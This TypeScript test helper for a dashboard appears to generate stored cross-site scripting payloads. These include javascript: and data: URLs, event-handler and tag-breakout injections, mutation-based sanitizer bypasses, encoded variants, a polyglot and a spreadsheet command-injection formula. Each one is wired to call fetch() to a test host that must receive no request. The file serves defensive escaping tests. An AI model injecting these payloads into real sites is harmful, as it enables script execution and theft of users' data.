/** The element in every malicious text: the dashboard's own document must never contain one. */
export const MARK = "x-mark";

const SCHEMES = [
  "javascript:CODE",
  " javascript:CODE",
  "java\tscript:CODE",
  "JaVaScRiPt:CODE//http://",
  "data:text/html,<script>CODE</script>",
  "vbscript:CODE",
];

const MARKUP = [
  "<script>CODE</script>",
  "<SCRIPT SRC=http://HOST/a.js></SCRIPT>",
  "<img src=x onerror=CODE>",
  '"><img src=x onerror=CODE>',
  "'><img src=x onerror=CODE>",
  '" autofocus onfocus=CODE x="',
  "' onmouseover='CODE' x='",
  "` onmouseover=CODE",
  "<svg onload=CODE>",
  "<svg><script>CODE</script></svg>",
  "<svg><animate onbegin=CODE attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=a onload=CODE/>#a'/>",
  "<math><mi xlink:href='javascript:CODE'>x",
  "<iframe src=javascript:CODE></iframe>",
  "<iframe srcdoc='<script>CODE</script>'></iframe>",
  "<iframe src=http://HOST/frame></iframe>",
  "<object data=http://HOST/object></object>",
  "<embed src=http://HOST/embed>",
  "<a href=javascript:CODE id=go>go</a>",
  "<form action=http://HOST/form><button formaction=javascript:CODE>x</form>",
  "<input autofocus onfocus=CODE>",
  "<details open ontoggle=CODE>",
  "<video><source onerror=CODE></video>",
  "<marquee onstart=CODE>",
  "<body onload=CODE>",
  "<meta http-equiv=refresh content='0;url=http://HOST/refresh'>",
  "<base href=http://HOST/base/>",
  "<link rel=stylesheet href=http://HOST/a.css>",
  "<style>@import 'http://HOST/b.css';*{background:url(http://HOST/c)}</style>",
  "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=CODE>",
  "</title><script>CODE</script>",
  "</textarea><script>CODE</script>",
  "</style><script>CODE</script>",
  "</script><script>CODE</script>",
  "--><script>CODE</script>",
  "]]><script>CODE</script>",
  "<noscript><p title='</noscript><img src=x onerror=CODE>'>",
  "<template><script>CODE</script></template>",
  "<math><mtext><table><mglyph><style><img src=x onerror=CODE>",
  "<svg></p><style><a id='</style><img src=x onerror=CODE>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
  "&lt;img src=x onerror=CODE&gt;",
  "\\u003cimg src=x onerror=CODE\\u003e",
  "%3Cimg%20src%3Dx%20onerror%3DCODE%3E",
  "\u202e<img src=x onerror=CODE>",
  "<img src=x onerror\0=CODE>",
  "[a](javascript:CODE)",
  '![a](x"onerror="CODE)',
  "${CODE}",
  "=cmd|' /C calc'!A0",
  '{"__html":"<img src=x onerror=CODE>"}',
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=CODE )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=CODE//>\\x3e",
];

/**
 * Returns texts that run a script, or call a server, where code forgets to write them as text: in elements,
 * attributes, addresses, styles and scripts (the corpus of stored cross-site scripting).
 *
 * @param host Host and port of a server that must get no request.
 */
export function attackTexts(host: string): string[] {
  const code = `top.__ran=1,fetch(\`http://${host}/script\`)`;
  return [...MARKUP.map((text) => `<${MARK}>${text}`), ...SCHEMES]
    .map((text) => text.replaceAll("CODE", code).replaceAll("HOST", host));
}
